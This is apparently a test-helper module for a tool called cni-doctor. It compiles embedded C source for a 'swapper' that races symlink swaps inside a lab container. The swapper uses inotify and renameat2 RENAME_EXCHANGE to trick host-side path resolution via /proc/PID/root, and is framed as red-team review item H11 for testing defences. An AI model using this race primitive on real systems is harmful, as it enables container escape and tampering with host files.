// A hostile node's racing tool (red-team review H11), built here as a static C program and run
// INSIDE a lab node container: it swaps two of the node's own paths with renameat2(2)
// RENAME_EXCHANGE, which an unprivileged container's root may do to its own files at any moment.
//
//   swapper watch DIR A B MARK   waits (inotify) until a cni-doctor temp file (.cni-doctor-*)
//                                appears in DIR, then exchanges A and B once and creates MARK
//                                (at real-time priority where allowed: it must win the race)
//   swapper loop A B SECONDS     exchanges A and B over and over for SECONDS, then prints how
//                                many exchanges it made
//
// With A a real directory and B a symlink to a folder of THIS machine, a tool that checked A once
// and then used it by path from outside the node (/proc/PID/root/A) follows the link against this
// machine's root; a program running inside the node resolves it against the node's root.
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mustRun } from './exec';

const SOURCE = String.raw`#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
static int exchange(const char *a, const char *b) {
  return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}
int main(int argc, char **argv) {
  if (argc == 6 && strcmp(argv[1], "watch") == 0) {
    alarm(300);
    // Real-time priority (the privileged lab node may set it): woken by the event, the swap runs
    // at once instead of after whatever else the loaded machine is doing. It only ever blocks in
    // read(2) and exits after one exchange, so it cannot starve anything.
    struct sched_param sp = {.sched_priority = 10};
    sched_setscheduler(0, SCHED_FIFO, &sp);
    int fd = inotify_init();
    if (fd < 0 || inotify_add_watch(fd, argv[2], IN_CREATE | IN_MOVED_TO) < 0) return 2;
    char buf[8192] __attribute__((aligned(8)));
    for (;;) {
      ssize_t n = read(fd, buf, sizeof buf);
      if (n <= 0) return 3;
      for (char *p = buf; p < buf + n;) {
        struct inotify_event *e = (struct inotify_event *)p;
        if (e->len && strncmp(e->name, ".cni-doctor-", 12) == 0) {
          if (exchange(argv[3], argv[4]) != 0) return 4;
          close(open(argv[5], O_CREAT | O_WRONLY, 0600));
          return 0;
        }
        p += sizeof *e + e->len;
      }
    }
  }
  if (argc == 5 && strcmp(argv[1], "loop") == 0) {
    // The highest nice weight (the privileged lab node may set it): on a loaded machine the
    // exchanges must keep going while cni-doctor's calls run, or both see the same state.
    setpriority(PRIO_PROCESS, 0, -20);
    time_t end = time(NULL) + atoi(argv[4]);
    long count = 0;
    struct timespec pause = {0, 20000};
    while (time(NULL) < end) {
      for (int i = 0; i < 200; i++)
        if (exchange(argv[2], argv[3]) == 0) count++;
      nanosleep(&pause, NULL);
    }
    printf("%ld\n", count);
    return 0;
  }
  fprintf(stderr, "usage: swapper watch DIR A B MARK | swapper loop A B SECONDS\n");
  return 1;
}
`;

let built: string | undefined;

/** The static swapper binary (built once per machine, in the temp dir). */
export async function swapperBinary(): Promise<string> {
  if (built && existsSync(built)) return built;
  const dir = join(tmpdir(), 'cnd-node-build');
  mkdirSync(dir, { recursive: true });
  const src = join(dir, 'swapper.c');
  writeFileSync(src, SOURCE);
  const out = join(dir, 'swapper');
  await mustRun('gcc', ['-static', '-O2', '-o', out, src], 60_000);
  built = out;
  return out;
}
